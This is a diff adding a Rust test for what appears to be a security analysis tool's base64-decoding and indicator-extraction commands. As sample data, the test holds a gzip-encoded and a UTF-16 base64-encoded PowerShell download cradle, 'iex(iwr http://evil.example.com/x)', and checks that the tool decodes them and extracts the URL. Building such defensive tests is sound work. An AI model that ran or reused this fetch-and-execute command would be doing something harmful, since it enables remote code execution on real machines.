@@ -507,3 +507,55 @@ fn ioc_over_frame_columns_keeps_row_and_column() {
         Some("4411")
     );
 }
+
+#[test]
+fn b64_decodes_columns_and_pasted_text() {
+    let mut interp = Interpreter::default();
+    // The help example: a gzip payload holding a PowerShell download cradle.
+    ok(
+        &mut interp,
+        "dec = %%b64\nH4sIAAAAAAAC/yvIL08tKs5IzclR0E1WyEyt0MgsL1LIKCkpsNLXTy3LzNFLrUjMLchJ1UvOz9Wv0AQAzmQwMjAAAAA=",
+    );
+    let dec = interp.session().get("dec").unwrap();
+    let decoded = dec.data.column("DecodedString").unwrap().str().unwrap().clone();
+    assert!(
+        decoded
+            .iter()
+            .any(|d| d == Some("powershell -c iex(iwr http://evil.example.com/x)")),
+        "{decoded:?}"
+    );
+    // Over a frame column: the decoded text can go straight on to %ioc.
+    let dir = tempfile::tempdir().unwrap();
+    let csv = dir.path().join("cmd.csv");
+    std::fs::write(
+        &csv,
+        "CommandLine\n\"powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AeAApAA==\"\nnotepad.exe\n",
+    )
+    .unwrap();
+    ok(&mut interp, &format!("procs = %load {}", csv.display()));
+    ok(&mut interp, "dec = %b64 procs.CommandLine");
+    let dec = interp.session().get("dec").unwrap();
+    assert_eq!(dec.height(), 1);
+    assert_eq!(
+        dec.data.column("Encoding").unwrap().str().unwrap().get(0),
+        Some("utf-16")
+    );
+    ok(&mut interp, "iocs = %ioc dec.FullDecodedString");
+    let iocs = interp.session().get("iocs").unwrap();
+    let observables: Vec<_> = iocs
+        .data
+        .column("Observable")
+        .unwrap()
+        .str()
+        .unwrap()
+        .iter()
+        .flatten()
+        .map(str::to_string)
+        .collect();
+    assert!(
+        observables.contains(&"http://evil.example.com/x".to_string()),
+        "{observables:?}"
+    );
+    fails(&mut interp, "%b64 procs.Nope", "no-such-column");
+    fails(&mut interp, "%b64 procs.CommandLine --max-depth 0", "bad-value");
+}
